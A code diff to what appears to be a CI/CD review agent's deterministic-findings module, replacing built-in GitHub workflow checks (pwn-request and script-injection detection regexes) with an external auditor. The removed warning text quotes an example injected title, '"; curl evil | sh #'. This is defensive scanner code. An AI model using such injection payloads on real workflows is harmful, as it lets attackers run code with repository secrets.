@@ -10,9 +10,8 @@ this change's fault, and re-reporting it on every pull request floods reviews):
   deliberately not one: it is the normal way a Node CLI or script prints, and flagging it
   would bury real findings;
 - binary files of a size that bloats every clone;
-- workflow edits that introduce known-dangerous patterns: ``pull_request_target`` together
-  with a checkout of the pull request's head (the "pwn request"), and attacker-controlled
-  ``${{ github.event… }}`` expressions inside ``run:`` scripts (script injection).
+- workflow and action files, audited by zizmor on the changed lines
+  (:mod:`cicd_agent.analysis.workflows`).
 
 Scanning 200,000 changed lines line by line with every secret pattern is slow, so each rule
 first asks the file's raw diff text for a cheap pre-filter match and parses only candidates.
@@ -28,7 +27,6 @@ from itertools import accumulate
 from pathlib import PurePosixPath
 from typing import Annotated, Literal
 
-import yaml
 from pydantic import BaseModel, BeforeValidator, ConfigDict, Field, PlainSerializer
 
 from cicd_agent.analysis.diff import Diff, FileDiff
@@ -63,7 +61,7 @@ RULE_DESCRIPTIONS: dict[str, str] = {
     "debugger": "A debugger call that stops the program was left in",
     "large-binary": "A large binary file was added to the repository",
     "workflow-pwn-request": "pull_request_target workflow checks out the pull request's code",
-    "workflow-script-injection": "Untrusted event data is expanded into a workflow script",
+    "workflow-not-audited": "A workflow file could not be audited within the parsing limits",
 }
 """One line per deterministic rule (SARIF rule descriptions, README)."""
 
@@ -95,9 +93,13 @@ class Finding(BaseModel):
 def deterministic_findings(diff: Diff, workflow_texts: Mapping[str, str]) -> list[Finding]:
     """Every deterministic finding of ``diff``, most severe first.
 
-    ``workflow_texts`` holds the head version of the workflow files :func:`workflow_paths`
-    names: a dangerous combination needs the whole file, not only the added lines.
+    ``workflow_texts`` holds the head version of the workflow files
+    :func:`~cicd_agent.analysis.workflows.workflow_paths` names: the auditor needs the whole
+    file, not only the added lines.
     """
+    # Imported here: workflows builds Finding objects, so it imports this module.
+    from cicd_agent.analysis.workflows import workflow_findings
+
     found: list[Finding] = []
     secret_files = diff.paths_matching(_secret_offsets)
     conflict_files = diff.paths_with(_CONFLICT_WORDS)
@@ -114,8 +116,8 @@ def deterministic_findings(diff: Diff, workflow_texts: Mapping[str, str]) -> lis
             found.extend(_conflict_markers(changed))
         if changed.path in debugger_files:
             found.extend(_debugger_calls(changed))
-        if changed.path in workflow_texts:
-            found.extend(workflow_findings(changed, workflow_texts[changed.path]))
+    if workflow_texts:
+        found.extend(workflow_findings(diff, workflow_texts))
     return sort_findings(found)
 
 
@@ -316,181 +318,3 @@ def _large_binary(changed: FileDiff) -> Iterator[Finding]:
             "LFS, a release asset or an artifact store."
         ),
     )
-
-
-# ------------------------------------------------------------------------------ workflows
-
-_WORKFLOW = re.compile(r"^\.github/workflows/[^/]+\.ya?ml$")
-_ACTION = re.compile(r"(?:^|/)action\.ya?ml$")
-# Fields an outside contributor controls (GitHub Security Lab's list), plus github.head_ref.
-_UNTRUSTED = re.compile(
-    r"github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)"
-    r"|github\.event\.(?:comment|review|review_comment)\.body"
-    r"|github\.event\.pages\.[^.\s}]+\.page_name"
-    r"|github\.event\.(?:commits\.[^.\s}]+|head_commit)\.(?:message|author\.(?:email|name))"
-    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)"
-    r"|github\.event\.workflow_run\.(?:head_branch|display_title"
-    r"|head_commit\.(?:message|author\.(?:email|name)))"
-    r"|github\.head_ref"
-)
-_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}")
-_HEAD_CHECKOUT = re.compile(
-    r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref"
-    r"|refs/pull/|github\.event\.pull_request\.merge_commit_sha"
-)
-_SCRIPT_CHECKOUT = re.compile(
-    r"gh\s+pr\s+checkout|git\s+fetch\b.*\bpull/|git\s+(?:checkout|switch)\b.*"
-    r"(?:github\.event\.pull_request\.head|github\.head_ref)"
-)
-
-
-def workflow_paths(diff: Diff) -> list[str]:
-    """Workflow and action files this diff adds or changes (their head text is needed)."""
-    return [
-        f.path
-        for f in diff.files
-        if f.status != "deleted"
-        and not f.is_binary
-        and (_WORKFLOW.match(f.path) or _ACTION.search(f.path))
-    ]
-
-
-def workflow_findings(changed: FileDiff, text: str) -> list[Finding]:
-    """Dangerous patterns this change introduces into a workflow (or composite action) file."""
-    try:
-        root = yaml.compose(text, Loader=yaml.SafeLoader)
-    except yaml.YAMLError:
-        return []  # not our job to lint YAML; GitHub will refuse the file itself
-    if not isinstance(root, yaml.MappingNode):
-        return []
-    added = {number for number, _ in changed.added_lines()}
-    lines = text.splitlines()
-    found = list(_script_injections(changed.path, root, lines, added))
-    if _WORKFLOW.match(changed.path):
-        found.extend(_pwn_request(changed.path, root, lines, added))
-    return found
-
-
-def _mapping_items(node: yaml.Node) -> Iterator[tuple[str, yaml.Node, yaml.Node]]:
-    if isinstance(node, yaml.MappingNode):
-        for key, value in node.value:
-            if isinstance(key, yaml.ScalarNode):
-                yield str(key.value), key, value
-
-
-def _walk(node: yaml.Node) -> Iterator[yaml.Node]:
-    """Every node of the document, depth first."""
-    stack = [node]
-    while stack:
-        current = stack.pop()
-        yield current
-        if isinstance(current, yaml.MappingNode):
-            for key, value in current.value:
-                stack += [value, key]
-        elif isinstance(current, yaml.SequenceNode):
-            stack.extend(reversed(current.value))
-
-
-def _scalar_lines(node: yaml.Node) -> range:
-    """1-based file lines a scalar spans. A block scalar (``|``, ``>``) ends at column 0 of
-    the line after its last line, which must not count (it may be the next key)."""
-    start, end = node.start_mark, node.end_mark
-    last = end.line if end.column == 0 and end.line > start.line else end.line + 1
-    return range(start.line + 1, last + 1)
-
-
-def _script_injections(
-    path: str, root: yaml.Node, lines: list[str], added: set[int]
-) -> Iterator[Finding]:
-    for node in _walk(root):
-        for key, _, value in _mapping_items(node):
-            is_script = key == "run" or (key == "script" and _uses_github_script(node))
-            if not is_script or not isinstance(value, yaml.ScalarNode):
-                continue
-            for number in _scalar_lines(value):
-                if number not in added or number > len(lines):
-                    continue
-                expressions = [m.group(1) for m in _EXPRESSION.finditer(lines[number - 1])]
-                tainted = [e.strip() for e in expressions if _UNTRUSTED.search(e)]
-                if tainted:
-                    yield Finding(
-                        rule="workflow-script-injection",
-                        severity=Severity.HIGH,
-                        category="security",
-                        path=path,
-                        line=number,
-                        title="Untrusted input expanded into a script",
-                        body=(
-                            f"`${{{{ {tainted[0]} }}}}` is written by whoever opens the issue, "
-                            "pull request or commit, and GitHub pastes it into the script "
-                            'before the shell runs it: a title such as `"; curl evil | sh #` '
-                            "runs with this job's token. Pass it through `env:` and use the "
-                            'variable quoted (`"$TITLE"`) instead.'
-                        ),
-                    )
-
-
-def _uses_github_script(step: yaml.Node) -> bool:
-    for key, _, value in _mapping_items(step):
-        if key == "uses" and isinstance(value, yaml.ScalarNode):
-            return str(value.value).startswith("actions/github-script")
-    return False
-
-
-def _pwn_request(
-    path: str, root: yaml.Node, lines: list[str], added: set[int]
-) -> Iterator[Finding]:
-    trigger = _trigger_line(root)
-    if trigger is None:
-        return
-    checkouts = list(_head_checkouts(root, lines))
-    if not checkouts:
-        return
-    introduced = [n for n in checkouts if n in added]
-    if trigger not in added and not introduced:
-        return
-    line = introduced[0] if introduced else checkouts[0]
-    yield Finding(
-        rule="workflow-pwn-request",
-        severity=Severity.CRITICAL,
-        category="security",
-        path=path,
-        line=line,
-        title="pull_request_target checks out the pull request's code",
-        body=(
-            "This workflow runs on `pull_request_target`, which has a write token and the "
-            "repository's secrets even for pull requests from forks, and it checks out the "
-            "pull request's head. Any build step, script or dependency in that code then runs "
-            "with those secrets. Use `pull_request` for building untrusted code, and publish "
-            "results from a separate `workflow_run` workflow."
-        ),
-    )
-
-
-def _trigger_line(root: yaml.Node) -> int | None:
-    """The line naming ``pull_request_target`` under ``on:``, or None."""
-    for key, _, value in _mapping_items(root):
-        if key not in ("on", "true"):
-            continue
-        for node in _walk(value):
-            if isinstance(node, yaml.ScalarNode) and node.value == "pull_request_target":
-                return int(node.start_mark.line) + 1
-    return None
-
-
-def _head_checkouts(root: yaml.Node, lines: list[str]) -> Iterator[int]:
-    """Lines that check out the pull request's head: a checkout ``ref:`` or a git command."""
-    for node in _walk(root):
-        items = {key: value for key, _, value in _mapping_items(node)}
-        uses = items.get("uses")
-        if uses and isinstance(uses, yaml.ScalarNode) and "actions/checkout" in uses.value:
-            for key, _, value in _mapping_items(items.get("with", uses)):
-                if key not in ("ref", "repository") or not isinstance(value, yaml.ScalarNode):
-                    continue
-                if _HEAD_CHECKOUT.search(str(value.value)) or "head.repo" in str(value.value):
-                    yield int(value.start_mark.line) + 1
-        run = items.get("run")
-        if isinstance(run, yaml.ScalarNode):
-            for number in _scalar_lines(run):
-                if number <= len(lines) and _SCRIPT_CHECKOUT.search(lines[number - 1]):
-                    yield number
